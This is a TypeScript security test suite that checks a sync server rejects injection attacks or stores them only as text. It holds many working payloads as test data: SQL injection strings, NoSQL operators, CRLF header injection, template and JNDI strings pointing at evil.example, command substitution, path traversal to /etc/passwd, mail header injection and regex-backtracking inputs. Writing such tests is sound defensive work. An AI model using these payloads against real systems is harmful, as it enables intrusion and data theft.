/** E: injection. What looks like code is stored as the text it is, or refused; never run. */
import { expect } from 'chai';
import fc from 'fast-check';
import { isText } from '../../../src/protocol/index.js';
import { experiment, keepsAsText } from './rows.js';
import { type Attack, CANARY, hostile } from './suite.js';

const SQL = [
  `'; drop table rows; --`,
  `' or '1'='1`,
  `") or 1=1 --`,
  `$1); delete from rows; --`,
  `\\'; select pg_sleep(10); --`,
  `'||(select secret from identity)||'`,
  `1; copy rows to program 'id'`,
  `' union select * from tokens --`,
  `{"a":1}'::jsonb`,
  `%27%20or%201=1`,
  `$$; drop table rows; $$`,
  `/*!50000 or 1=1*/`,
  `E'\\x27'`,
];

async function refusesIds(attack: Attack, texts: readonly string[]) {
  for (const text of texts) {
    const name = JSON.stringify(text).slice(0, 60);
    await attack.push(`key ${name}`, { key: text }, 422);
    await attack.push(`collection ${name}`, { collection: text }, 422);
    await attack.request(`client ${name}`, { body: { client: text, mutations: [] } }, 422);
    const path = `/v1/sync/pull?collections=${encodeURIComponent(text)}`;
    await attack.request(`pull ${name}`, { path }, [400, 422]);
  }
}

hostile(
  'E injection',
  (category) => {
    category(
      92,
      'SQL in every string',
      async (attack) => {
        const generated = attack
          .generated(
            fc.tuple(fc.constantFrom(`'`, `"`, `\\`, `;`, `$$`), fc.string({ maxLength: 20 })),
          )
          .map(([quote, text]) => `${text}${quote} or true; -- ${quote}`);
        await keepsAsText(attack, [...SQL, ...generated.filter((text) => isText(text))]);
        await refusesIds(attack, SQL);
        for (const text of SQL) {
          const sent = encodeURIComponent(text);
          const pull = '/v1/sync/pull?collections=tasks';
          await attack.request(`limit ${text}`, { path: `${pull}&limit=${sent}` }, 422);
          const { body } = await attack.request(
            `cursor ${text}`,
            { path: `${pull}&cursor=${sent}` },
            200,
          );
          expect(body).to.equal('{"reset":true,"reason":"cursor"}\n');
          const scopes = encodeURIComponent(JSON.stringify({ tasks: [{ title: `${text}x` }] }));
          const scoped = await attack.request(
            `scope ${text}`,
            { path: `${pull}&scopes=${scopes}` },
            200,
          );
          expect(scoped.body, text).not.to.include('"keys"');
        }
      },
      { stores: true },
    );

    category(93, 'SQL for names', async (attack) => {
      for (const name of [
        'rows',
        'tokens',
        'pg_catalog.pg_user',
        'identity',
        'tasks"',
        'tasks--',
        'tasks tasks',
      ]) {
        await attack.push(name, { collection: name }, 422);
        await attack.request(
          name,
          { path: `/v1/sync/pull?collections=${encodeURIComponent(name)}` },
          422,
        );
      }
      for (const name of ["title' or '1", 'value->>x', 'a::text', 'workspace', 'x'.repeat(129)]) {
        const scopes = encodeURIComponent(JSON.stringify({ tasks: [{ [name]: CANARY }] }));
        const path = `/v1/sync/pull?collections=tasks&scopes=${scopes}`;
        const answer = await attack.request(name, { path }, [200, 422]);
        expect(answer.body).not.to.include('"keys"');
      }
    });

    category(94, 'operators for values', async (attack) => {
      for (const value of [
        { $gt: '' },
        { $ne: null },
        { $where: 'sleep(9)' },
        { $regex: '.*' },
        ['x'],
      ]) {
        const name = JSON.stringify(value);
        await attack.push(name, { value: { title: value } }, 422);
        await attack.push(
          `patch ${name}`,
          { key: 'honest', op: 'update', base: 1, patch: { title: value } },
          422,
        );
        const scopes = encodeURIComponent(JSON.stringify({ tasks: [{ title: value }] }));
        await attack.request(
          `scope ${name}`,
          { path: `/v1/sync/pull?collections=tasks&scopes=${scopes}` },
          422,
        );
      }
      for (const condition of [
        { id: { $where: 'sleep(9)' } },
        { id: { $expr: {} } },
        { $and: [{ id: { $function: 'x' } }] },
        { $not: { a: { $lookup: 1 } } },
      ]) {
        const value = experiment('targeted', { condition });
        await attack.push(
          JSON.stringify(condition),
          { collection: 'experiments', key: 'targeted', value },
          422,
        );
      }
    });

    category(
      95,
      'wildcards',
      async (attack) => {
        await keepsAsText(attack, ['%', '_', '%'.repeat(500), '%_\\%', '*', '.*']);
        await attack.push('a million', { value: { title: '%'.repeat(60_000) } }, 422);
        for (const title of ['%', '_%', `${CANARY.slice(0, 5)}%`, '*']) {
          const scopes = encodeURIComponent(JSON.stringify({ tasks: [{ title }] }));
          const path = `/v1/sync/pull?collections=tasks&scopes=${scopes}`;
          const { body } = await attack.request(title, { path }, 200);
          expect(body, title).not.to.include(CANARY);
        }
      },
      { stores: true },
    );

    category(
      96,
      'line breaks into headers, log and events',
      async (attack) => {
        const crlf = '%0d%0aset-cookie:%20x=y%0d%0a%0d%0a<script>';
        for (const path of [`/${crlf}`, `/ops/${crlf}`, `/v1/${crlf}`, `/ops/ab-testing/${crlf}`]) {
          const answer = await attack.request(path, { path, as: null }, [400, 404]);
          expect(answer.headers).not.to.have.property('set-cookie');
        }
        const [signIn] = await attack.bytes({ path: `/ops/sign-in?code=${crlf}`, as: null });
        const [link] = await attack.talk('a code', [signIn]);
        expect(link!.status).to.be.within(400, 410);
        expect(link!.headers).not.to.have.property('set-cookie');
        const etag = { path: '/v1/config', headers: { 'If-None-Match': '"x"\tset-cookie: x' } };
        await attack.request('an etag', etag, 200);

        const [head] = await attack.bytes({ path: '/v1/sync/live?collections=tasks' });
        const stream = attack
          .talk('a stream', [head], { answers: 2, timeout: 1_500 })
          .catch((error: Error) => error.message);
        await keepsAsText(attack, [
          'x\n\ndata: {"seq":999999}\n\n',
          'y\r\n\r\nevent: hint\r\nid: 5',
        ]);
        expect(await stream).not.to.include('999999');
      },
      { stores: true },
    );

    category(97, 'forged and coloured log lines', async (attack) => {
      const forged = `\u001b[31m${CANARY}\n{"level":50,"msg":"${CANARY}"}`;
      await attack.push('a key', { key: forged }, 422);
      await attack.request('a member', { body: { [forged]: 1 } }, 422);
      await attack.request('a path', { path: `/${encodeURIComponent(forged)}` }, [400, 404]);
      await attack.request('a method', { method: 'POST', path: `/v1/${CANARY}`, body: {} }, 404);
      const headers = { 'User-Agent': CANARY, 'X-Request-Id': CANARY, 'X-Forwarded-For': CANARY };
      await attack.request('headers', { path: `/v1/nothing?x=${CANARY}`, headers }, 404);
      await attack.request(
        'a token',
        { path: '/v1/session', headers: { Authorization: `Bearer ${CANARY}` } },
        401,
      );
    });

    category(
      99,
      'templates',
      (attack) =>
        keepsAsText(attack, [
          '${7*7}',
          '{{7*7}}',
          '<%= 7*7 %>',
          '#{7*7}',
          '${jndi:ldap://evil.example/x}',
          '{{constructor.constructor("return process")()}}',
          '%{7*7}',
          '$(id)',
          '`id`',
          '<script>alert(1)</script>',
        ]),
      { stores: true },
    );

    category(100, 'paths for names', async (attack) => {
      const paths = [
        '../../etc/passwd',
        '..',
        '.',
        '/etc/passwd',
        'a/b',
        'C:\\x',
        'a\\..\\b',
        'con.',
        '~root',
        'file:///x',
      ];
      await refusesIds(attack, paths);
      for (const key of paths) {
        const change = { collection: 'experiments', key, value: experiment(key) };
        await attack.push(`experiment ${key}`, change, 422);
        const variants = [
          { key, name: 'A', weight: 0.5 },
          { key: 'b', name: 'B', weight: 0.5 },
        ];
        const value = experiment('pathy', { variants });
        await attack.push(
          `variant ${key}`,
          { collection: 'experiments', key: 'pathy', value },
          422,
        );
      }
    });

    category(
      101,
      'headers of a mail or a call in a name',
      async (attack) => {
        for (const [i, owner] of [
          'a@b.c\r\nBcc: x@evil.example',
          'a\nX-Injected: 1',
          '=?utf-8?q?x?=',
        ].entries()) {
          const key = `owned-${i}`;
          const value = experiment(key, { owner, name: `Hero ${owner}` });
          await attack.push(owner, { collection: 'experiments', key, value }, 'applied');
          const answer = await attack.request('config', { path: '/v1/config' }, 200);
          expect(answer.headers).not.to.have.any.keys('bcc', 'x-injected');
          expect(answer.body).not.to.include('Bcc');
          expect((await attack.rows('experiments'))[key]).to.have.property('owner', owner);
        }
      },
      { stores: true },
    );

    category(102, 'texts that make patterns backtrack', async (attack) => {
      const texts = [
        'a'.repeat(50_000) + '!',
        '-'.repeat(50_000),
        ' '.repeat(50_000),
        '0'.repeat(50_000) + 'x',
        'a-'.repeat(25_000) + '\n',
      ];
      for (const text of texts) {
        const name = text.slice(0, 10);
        for (const change of [
          { key: text },
          { collection: text },
          { op: text },
          { at: text.padEnd(65) },
        ]) {
          await attack.push(`${Object.keys(change)[0]} ${name}`, change, 422);
        }
        for (const change of [
          { createdAt: text },
          { hashAttribute: text },
          { seed: text },
          { owner: text },
          { tags: [text] },
        ]) {
          const value = experiment('slow', change);
          await attack.push(
            `${Object.keys(change)[0]} ${name}`,
            { collection: 'experiments', key: 'slow', value },
            422,
          );
        }
        const short = encodeURIComponent(text.slice(0, 4_000));
        for (const path of [
          `/v1/sync/pull?collections=${short}`,
          `/v1/sync/pull?collections=tasks&limit=${short}`,
        ]) {
          await attack.request(`${path.slice(14, 30)} ${name}`, { path }, [400, 422]);
        }
        const headers = {
          Cookie: `bytelyst-session=${text.slice(0, 4_000).trim()}`,
          Accept: text.slice(0, 4_000),
        };
        await attack.request(
          `headers ${name}`,
          { path: '/v1/session', as: null, headers },
          [400, 401],
        );
        const type = {
          body: '{}',
          headers: { 'Content-Type': `application/json; charset=${text.slice(0, 4_000)}` },
        };
        await attack.request(`type ${name}`, type, [400, 415]);
        const token = {
          path: '/v1/session',
          headers: { Authorization: `Bearer ${text.slice(0, 8_000)}` },
        };
        await attack.request(`token ${name}`, token, [400, 401]);
      }
    });

    category(103, 'patterns that backtrack, in a condition', async (attack) => {
      const patterns = [
        '(a)\\1',
        '(?<=a)b',
        '(?<!a)b',
        '(?<x>a)\\k<x>',
        '(',
        'a**',
        '[',
        'x{5001}',
        '('.repeat(60) + ')'.repeat(60),
        'a'.repeat(5_001),
        5,
        null,
        {},
        ['a'],
      ];
      for (const pattern of patterns) {
        for (const condition of [
          { url: { $regex: pattern } },
          { $or: [{ url: { $not: { $regexi: pattern } } }] },
        ]) {
          const value = experiment('matched', { condition });
          await attack.push(
            JSON.stringify(condition).slice(0, 60),
            { collection: 'experiments', key: 'matched', value },
            422,
          );
        }
      }
    });
  },
  { onBoth: true },
);
